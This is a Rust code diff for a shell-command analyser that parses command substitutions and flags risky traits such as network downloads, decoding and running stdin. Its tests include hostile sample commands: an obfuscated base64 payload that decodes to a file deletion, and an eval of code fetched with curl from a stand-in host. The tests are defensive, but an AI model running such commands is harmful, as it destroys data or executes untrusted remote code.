+    };
+    // (`script`, then the nested ones, last pushed first.)
+    let mut next = Some(script);
+    let mut stack = Vec::new();
+    while let Some(s) = next.take().or_else(|| stack.pop()) {
         for n in s.commands.iter().flat_map(|c| c.nested.iter()) {
             if let (NestedKind::CommandSubstitution, Some(span)) = (n.kind, n.source) {
                 if n.script.problems.is_empty() && out.len() < SUBSTITUTIONS {
-                    out.push((span, &n.script));
+                    let at = Span {
+                        start: span.start.saturating_sub(shift),
+                        end: span.end.saturating_sub(shift),
+                    };
+                    out.push((at, span.start, &n.script));
                 }
             }
             stack.push(&n.script);
@@ -1630,7 +1953,9 @@ fn candidates(script: &Script) -> Vec<(Span, &Script)> {
 }
 
 /// What `posix::lex(payload)` builds when `payload` is the substitution `sub` found at `at`:
-/// one command, one unquoted dynamic word holding the substitution.
+/// one command, one unquoted dynamic word holding the substitution (the reference for
+/// [`Root::Substitution`]).
+#[cfg(test)]
 fn substitution_reading(payload: &str, at: usize, sub: &Script) -> Script {
     let whole = Span {
         start: 0,
@@ -1666,6 +1991,7 @@ fn substitution_reading(payload: &str, at: usize, sub: &Script) -> Script {
 }
 
 /// Moves every offset in `script` (nested scripts included) `by` bytes back.
+#[cfg(test)]
 fn shift_spans(script: &mut Script, by: usize) {
     fn span(s: &mut Span, by: usize) {
         s.start = s.start.saturating_sub(by);
@@ -1729,6 +2055,20 @@ struct Piped {
 }
 
 impl Piped {
+    /// A copy of the flags, without the printed text.
+    fn without_prints(&self) -> Piped {
+        Piped {
+            network: self.network,
+            downloads_to_stdout: self.downloads_to_stdout,
+            decodes: self.decodes,
+            runs_stdin: self.runs_stdin,
+            passes_stdin: self.passes_stdin,
+            prints: None,
+            partial: self.partial,
+            lists_secrets: self.lists_secrets,
+        }
+    }
+
     /// Adds the output of a pipeline that runs after the ones already in `self` (the output
     /// of a script or group is that of each of its pipelines in turn).
     fn then(&mut self, next: Piped) {
@@ -1747,6 +2087,42 @@ impl Piped {
                 mine.push_str(&t);
             }
         }
+    }
+}
+
+/// The scripts nested in one command: its own, and for the command a payload's reading stands
+/// for ([`Root::Substitution`]), the substitution in its one word.
+#[derive(Clone, Copy)]
+struct Nests<'w> {
+    list: &'w [Nested],
+    substitution: Option<&'w Script>,
+}
+
+/// One of [`Nests`].
+struct NestedRef<'w> {
+    kind: NestedKind,
+    in_word: Option<usize>,
+    script: &'w Script,
+}
+
+impl<'w> Nests<'w> {
+    fn is_empty(&self) -> bool {
+        self.list.is_empty() && self.substitution.is_none()
+    }
+
+    fn iter(self) -> impl Iterator<Item = NestedRef<'w>> {
+        self.list
+            .iter()
+            .map(|n| NestedRef {
+                kind: n.kind,
+                in_word: n.in_word,
+                script: &n.script,
+            })
+            .chain(self.substitution.map(|script| NestedRef {
+                kind: NestedKind::CommandSubstitution,
+                in_word: Some(0),
+                script,
+            }))
     }
 }
 
@@ -2424,6 +2800,68 @@ mod tests {
         checked
     }
 
+    /// The script a reading of `text` stands for, built.
+    fn built(root: Root<'_>, text: &str) -> Script {
+        match root {
+            Root::Script(s) => s.clone(),
+            Root::Substitution { sub, shift } => substitution_reading(text, shift, sub),
+        }
+    }
+
+    /// The readings of the payloads read from `text`'s substitutions (and from theirs, three
+    /// levels): their candidates equal those of the scripts they stand for, built
+    /// ([`substitution_reading`]), and so do the readings they give; returns how many were
+    /// checked.
+    fn check_roots(text: &str, root: Root<'_>, level: usize) -> usize {
+        let script = built(root, text);
+        let ours = candidates(root, text.len());
+        let reference = candidates(Root::Script(&script), text.len());
+        assert_eq!(ours.len(), reference.len(), "{text:?}");
+        let mut checked = 0;
+        for (&(span, shift, sub), &(rspan, rshift, rsub)) in ours.iter().zip(&reference) {
+            assert_eq!(span, rspan, "{text:?}");
+            assert!(same_shape(sub, rsub), "{text:?}");
+            let Some(payload) = text.get(span.start..span.end) else {
+                continue;
+            };
+            if !reads_alike(payload) {
+                continue;
+            }
+            let mine = Root::Substitution { sub, shift };
+            let want = Root::Substitution {
+                sub: rsub,
+                shift: rshift,
+            };
+            assert_eq!(built(mine, payload), built(want, payload), "{text:?}");
+            checked += 1;
+            if level < 3 {
+                checked += check_roots(payload, mine, level + 1);
+            }
+        }
+        checked
+    }
+
+    /// [`check_roots`] from the lexer's reading of `text`.
+    fn check_line_roots(text: &str) -> usize {
+        let script = posix::lex(text, &LexLimits::default());
+        check_roots(text, Root::Script(&script), 0)
+    }
+
+    #[test]
+    fn substitution_roots_read_as_the_scripts_they_stand_for() {
+        let mut texts = crate::analysis::shell::rules::testing_corpus_texts();
+        texts.sort();
+        texts.dedup();
+        let mut checked = 0;
+        for (i, t) in texts.iter().enumerate() {
+            checked += check_line_roots(t);
+            let contexts = substitution_contexts(t);
+            checked += check_line_roots(&contexts[i % contexts.len()]);
+            checked += check_line_roots(&format!("bash -c \"$(x $({t}) $(y $({t})))\""));
+        }
+        assert!(checked > texts.len(), "{checked}");
+    }
+
     /// Contexts a substitution may sit in (quotes, raw regions, `[[`, `case`, heredoc bodies,
     /// assignments, redirections, nesting).
     fn substitution_contexts(t: &str) -> Vec<String> {
@@ -2459,16 +2897,20 @@ mod tests {
         let script = posix::lex(text, &LexLimits::default());
         let mut subs = Substitutions::default();
         let payload = "$(echo cm0gLXJmIC90bXAveA== | base64 -d)";
-        let got = subs.reading(text, &script, payload);
-        assert_eq!(got, Some(posix::lex(payload, &LexLimits::default())));
+        let got = subs.reading(text, Root::Script(&script), payload);
+        assert_eq!(
+            got.map(|r| built(r, payload)),
+            Some(posix::lex(payload, &LexLimits::default()))
+        );
         // Not a substitution of the line, or not one the reading stands for: lexed.
-        assert_eq!(subs.reading(text, &script, "$(echo x)"), None);
+        assert!(subs
+            .reading(text, Root::Script(&script), "$(echo x)")
+            .is_none());
         let text = "bash -c \"$(cat <<E\nx\nE\n)\"";
         let script = posix::lex(text, &LexLimits::default());
-        assert_eq!(
-            Substitutions::default().reading(text, &script, "$(cat <<E\nx\nE\n)"),
-            None
-        );
+        assert!(Substitutions::default()
+            .reading(text, Root::Script(&script), "$(cat <<E\nx\nE\n)")
+            .is_none());
         let (fast, slow) = both(
             "sh -c \"$(echo a | base64 -d)\" && eval \"$(curl -s x.example)\"",
             Dialect::Posix,
@@ -2515,6 +2957,8 @@ mod tests {
             let t: String = parts.concat();
             check_substitution_readings(&t);
             check_substitution_readings(&substitution_contexts(&t)[context]);
+            check_line_roots(&t);
+            check_line_roots(&substitution_contexts(&t)[context]);
         }
     }
 }
